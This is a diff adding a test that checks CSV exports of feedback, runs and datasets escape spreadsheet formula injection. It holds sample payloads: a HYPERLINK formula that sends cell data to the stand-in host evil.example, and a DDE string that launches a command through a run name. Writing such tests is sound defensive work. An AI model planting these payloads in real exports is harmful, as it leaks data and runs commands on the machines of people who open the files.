@@ -293,3 +293,45 @@ def test_client_chosen_ids_are_kept_once(client):
     assert example["id"] == example_id
     again = client.post(f"/api/v1/datasets/{dataset['id']}/examples", json=body)
     assert again.status_code == 409 and again.json()["error"]["field"] == "examples"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def test_csv_exports_neutralise_formulas_and_write_plain_timestamps(client, make_user):
+    """Formula injection through every user-written text that reaches a CSV export."""
+    from datetime import datetime
+
+    client.post("/api/v1/feedback-configs", json={"key": "note", "type": "freeform"})
+    run = run_payload(project=FORMULAS[0], name="=cmd|' /C calc'!A0")
+    client.post("/api/v1/runs/batch", json={"post": [run]})
+    for text in FORMULAS:
+        response = client.post(
+            "/api/v1/feedback", json={"run_id": run["id"], "key": "note", "value": text, "comment": text}
+        )
+        assert response.status_code in (200, 201), response.text
+    rows = list(
+        csv.DictReader(io.StringIO(client.get("/api/v1/exports/feedback", params={"format": "csv"}).text))
+    )
+    assert len(rows) == len(FORMULAS)
+    assert sorted(r["comment"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert sorted(r["value"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert {r["project"] for r in rows} == {"'" + FORMULAS[0]}
+    for row in rows:
+        assert not row["created_at"].startswith('"')
+        assert datetime.fromisoformat(row["created_at"]).tzinfo is not None
+    pivot = client.get("/api/v1/exports/feedback", params={"format": "csv", "pivot": "true"}).text
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for r in csv.reader(io.StringIO(pivot))
+        for cell in r
+    )
+
+    dataset = client.post("/api/v1/datasets", json={"name": "formulas"}).json()
+    examples = [{"inputs": {"q": t}, "outputs": {"a": t}, "split": t} for t in FORMULAS]
+    added = client.post(f"/api/v1/datasets/{dataset['id']}/examples", json={"examples": examples})
+    assert added.status_code in (200, 201), added.text
+    text = client.get(f"/api/v1/datasets/{dataset['id']}/export", params={"format": "csv"}).text
+    exported = list(csv.DictReader(io.StringIO(text)))
+    assert sorted(r["split"] for r in exported) == sorted("'" + t for t in FORMULAS)
+    assert {json.loads(r["inputs"])["q"] for r in exported} == set(FORMULAS)  # JSON cells keep the text
